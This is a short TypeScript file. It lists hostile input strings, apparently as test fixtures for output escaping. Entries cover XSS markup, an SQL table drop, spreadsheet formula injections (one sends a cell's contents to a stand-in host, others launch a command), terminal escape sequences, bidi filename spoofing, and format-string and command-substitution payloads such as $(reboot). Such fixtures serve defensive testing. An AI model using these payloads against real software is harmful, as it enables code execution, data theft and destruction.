// Texts that do something where they are shown: in a page, a terminal, a spreadsheet, a log, a query, a format.

/** Name, what it is, the text; none has a line end, '<' in XML is the caller's business. */
export const hostileTexts: [string, string, string][] = [
	['markup', 'markup and scripts', '"><script>alert(1)</script><img src=x onerror=alert(2)><svg/onload=alert(3)>'],
	['sql', 'SQL', "'; DROP TABLE report; -- \" OR 1=1 /* \\"],
	['formula', 'a formula', '=HYPERLINK("http://hostile.example/?x="&A1;"click")'],
	['formula-plus', 'a formula that begins with +', '+cmd|\' /C calc\'!A0'],
	['formula-minus', 'a formula that begins with -', '-2+3+cmd|\' /C calc\'!A0'],
	['formula-at', 'a formula that begins with @', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
	['escape', 'ESC, CSI, OSC and C1', '\x1b[2J\x1b]0;owned\x07\x1b]8;;http://hostile.example\x1b\\x\u009b31m\u009d0;x\u009c\u0085\x7f\x08\x0c'],
	['bidi', 'bidirectional overrides, joiners and what is not seen', '\u202egnp.exe\u202d\u2066x\u2069\u200b\u200f\ufeff\u{e0041}\u2028\u2029\u0301'],
	['format', 'a format string', '%s%s%n%p %1$*2$x {{7*7}} ${7*7} #{7*7} $(reboot) `reboot` %0d%0a'],
];
